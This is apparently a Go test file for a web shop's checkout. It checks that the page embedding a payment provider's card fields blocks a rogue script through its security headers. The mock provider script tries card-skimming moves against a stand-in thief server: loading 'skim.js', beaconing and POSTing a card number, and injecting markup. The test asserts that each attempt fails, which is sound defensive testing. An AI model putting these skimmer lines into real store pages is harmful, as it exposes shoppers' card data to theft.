package storefront

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/cartkeep/cartkeep/internal/checkout"
	"github.com/cartkeep/cartkeep/internal/order"
	"github.com/cartkeep/cartkeep/internal/payment"
	"github.com/cartkeep/cartkeep/internal/shoptest"
	"github.com/cartkeep/cartkeep/internal/shoptest/browser"
	"github.com/cartkeep/cartkeep/internal/store"
)

// script stands for the payment service's: it has the same calls as Stripe's, shows its
// fields in a frame of its own origin, and then tries what a stolen one would.
const script = `
window.Stripe = (key) => ({ initCheckoutElementsSdk: ({ clientSecret }) => ({
  createPaymentElement: () => ({ mount: (where) => {
    const frame = document.createElement("iframe");
    frame.id = "fields"; frame.src = "SERVICE/fields"; frame.title = "Card";
    document.querySelector(where).append(frame);
  } }),
  loadActions: async () => ({ type: "success", actions: {
    updateEmail: async (mail) => mail.includes("@") ? { type: "success" } : { type: "error", error: { message: "Your e-mail is not whole." } },
    confirm: async () => {
      await fetch("SERVICE/confirm", { method: "POST", body: key + " " + clientSecret });
      location.href = "RETURN";
      return { type: "success" };
    },
  } }),
}) });
(async () => {
  const ran = [], on = (what, act) => { try { act(); } catch { return; } ran.push(what); };
  on("eval", () => (0, eval)("1"));
  on("markup", () => { document.body.innerHTML += "<b>thief</b>"; });
  on("script", () => { const s = document.createElement("script"); s.src = "THIEF/skim.js"; document.head.append(s); });
  new Image().src = "THIEF/pixel?n=4242";
  const f = document.createElement("iframe"); f.src = "THIEF/frame"; document.body.append(f);
  try { await fetch("THIEF/send", { mode: "no-cors", method: "POST", body: "4242" }); ran.push("fetch"); } catch {}
  document.documentElement.dataset.tried = ran.join() || "nothing";
})();
`

// fieldBank is a bank whose card fields can stand on the shop's page.
type fieldBank struct {
	counter
	service string
}

func (f fieldBank) Open(ctx context.Context, q payment.Request) (payment.Session, error) {
	s, err := f.counter.Open(ctx, q)
	if q.Here {
		s.URL = ""
	}
	return s, err
}

func (f fieldBank) Embed() (payment.Embedding, bool) {
	return payment.Embedding{Who: "the service", Key: "pk_1", Script: f.service + "/service.js", Reason: "a test",
		Scripts: []string{f.service}, Frames: []string{f.service}, Connects: []string{f.service}}, true
}

func (fieldBank) Secret(_ context.Context, ref string) (string, error) { return ref + "_secret", nil }

type fieldStall struct {
	*stall
	order  order.Order
	heard  string       // what the service was told
	stolen atomic.Int64 // how often the thief was reached
}

func fields(t *testing.T) *fieldStall {
	t.Helper()
	out := &fieldStall{}
	var service *httptest.Server
	serve := func(h http.HandlerFunc) *httptest.Server {
		s := httptest.NewTLSServer(h)
		t.Cleanup(s.Close)
		return s
	}
	thief := serve(func(http.ResponseWriter, *http.Request) { out.stolen.Add(1) })
	service = serve(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/service.js":
			w.Header().Set("Content-Type", "text/javascript")
			back := out.server.URL + "/orders/" + string(out.order.Number)
			io.WriteString(w, strings.NewReplacer("SERVICE", service.URL, "THIEF", thief.URL, "RETURN", back).Replace(script))
		case "/fields":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<!doctype html><title>Card</title><input aria-label="Card number">`)
		case "/confirm":
			w.Header().Set("Access-Control-Allow-Origin", "*")
			body, _ := io.ReadAll(r.Body)
			out.heard = string(body)
			if err := out.Approve(checkout.Placed{Order: out.order}); err != nil {
				t.Error(err)
			}
		}
	})
	bank := serve(func(w http.ResponseWriter, _ *http.Request) {
		io.WriteString(w, "<!doctype html><title>Bank</title><h1>This is the bank</h1>")
	})
	out.stall = openWith(t, func(s *shoptest.Shop, origin string) *checkout.Desk {
		d, err := checkout.New(checkout.Config{Store: s.DB, Providers: []payment.Provider{fieldBank{counter{s.Bank, bank}, service.URL}}, Origin: origin})
		if err != nil {
			t.Fatal(err)
		}
		return d
	})
	return out
}

// TestTypingACardOnOurPageInChromium plays it with a double of the service's script: the
// real one can't be reached from here.
func TestTypingACardOnOurPageInChromium(t *testing.T) {
	for name, view := range map[string]browser.View{"scripts": {Width: browser.Narrow}, "noscripts": {NoScript: true}} {
		t.Run(name, func(t *testing.T) {
			s := fields(t)
			tab := browser.Start(t, s.server.Certificate()).Page(t, view)
			shopper := s.shopper(t)
			form := pay(s.toReview(t, shopper, s.Product(t, "cup", 900, shoptest.Counted(9))).is(200, "Card, typed on a page of ours", "we never see the number"))
			form.Set("payment_method", "bank/here")
			answer := shopper.post("/checkout/review", form)
			answer.is(200, "Pay €", "fields of the service")
			placed := s.placed(t, shopper)
			s.order = placed.Order
			if text := answer.body; !strings.Contains(text, `data-secret="ref-`) || strings.Contains(text, "Analytical") {
				t.Error("the page lacks the session's secret, or tells of a person")
			}
			at := s.server.URL + "/checkout/card?" + url.Values{"order": {string(placed.Order.Number)}}.Encode()
			if got := tab.Open(at); got != 404 {
				t.Errorf("without the order's cookie: got %d", got)
			}
			tab.Open(s.Desk.OrderLink(placed.Order))
			if got := tab.Open(at); got != 200 {
				t.Fatalf("got %d, want the page", got)
			}
			tab.Shot("card-fields-" + name)
			if view.NoScript {
				if !strings.Contains(tab.Text("#card-without"), "Without it, use the button below") {
					t.Error("nobody is told what to do without JavaScript")
				}
				tab.Submit("form[action$='/payments'] .btn")
				if got := tab.Text("h1"); got != "This is the bank" {
					t.Errorf("the button leads to %q", got)
				}
				return
			}
			tab.Wait("#card-pay:not([hidden])")
			if got := browser.Eval[string](tab, `document.getElementById("fields").src`); !strings.HasSuffix(got, "/fields") || strings.HasPrefix(got, s.server.URL) {
				t.Errorf("the card fields are at %s", got)
			}
			if n := browser.Eval[int64](tab, `document.querySelectorAll("input:not([type=hidden]):not(#card-mail):not([name=q])").length`); n != 0 {
				t.Errorf("our page has %d fields of its own", n)
			}
			tab.Wait("html[data-tried]")
			if got := browser.Eval[string](tab, "document.documentElement.dataset.tried"); got != "nothing" {
				t.Errorf("the script of the service could: %s", got)
			}
			tab.Fill("#card-mail", "ada at lovelace")
			tab.Click("#card-pay")
			tab.Wait("#card-pay:not([aria-disabled])")
			if got := tab.Text("#card-said"); got != "Your e-mail is not whole." {
				t.Errorf("the page says %q", got)
			}
			tab.Fill("#card-mail", "ada@lovelace.example")
			tab.Click("#card-pay")
			tab.Wait("body:not(:has(#card))")
			if want := fmt.Sprintf("pk_1 ref-%s-1_secret", placed.Order.ID); s.heard != want {
				t.Errorf("the service heard %q, want %q", s.heard, want)
			}
			var o order.Order
			err := s.DB.View(t.Context(), func(v *store.View) (err error) {
				o, err = v.OrderByNumber(placed.Order.Number)
				return err
			})
			if err != nil || o.Status != order.Paid {
				t.Errorf("the order is %s, %v", o.Status, err)
			}
			if n := s.stolen.Load(); n != 0 {
				t.Errorf("a thief's server was reached %d times", n)
			}
		})
	}
}

// TestOnlyOnePageLoadsFromElsewhere: the headers of the page with the fields, and of the
// others beside it. A shop without such fields has no such page.
func TestOnlyOnePageLoadsFromElsewhere(t *testing.T) {
	s := fields(t)
	b := s.shopper(t)
	empty := b.get("/checkout/card").is(200, "There is no order to pay here")
	policy := empty.header.Get("Content-Security-Policy")
	if strings.Contains(policy, "*") || strings.Contains(policy, "unsafe") || !strings.Contains(policy, "trusted-types default") || !strings.Contains(policy, "frame-src https://127.0.0.1:") {
		t.Errorf("the policy is %s", policy)
	}
	if empty.header.Get("Cache-Control") != "no-store" || empty.header.Get("X-Frame-Options") != "DENY" || empty.header.Get("Integrity-Policy") != "" {
		t.Errorf("got headers %v", empty.header)
	}
	own := s.toReview(t, b, s.Product(t, "cup", 900, shoptest.Counted(9))).not("service.js")
	for name, want := range map[string]string{"Integrity-Policy": "blocked-destinations", "Cross-Origin-Embedder-Policy": "require-corp", "Content-Security-Policy": "trusted-types 'none'"} {
		if got := own.header.Get(name); !strings.Contains(got, want) || strings.Contains(got, "frame-src") {
			t.Errorf("the review is sent with %s: %s", name, got)
		}
	}
	b.get("/checkout/card?order=nonsense").is(404)
	open(t).shopper(t).get("/checkout/card").is(404)
}
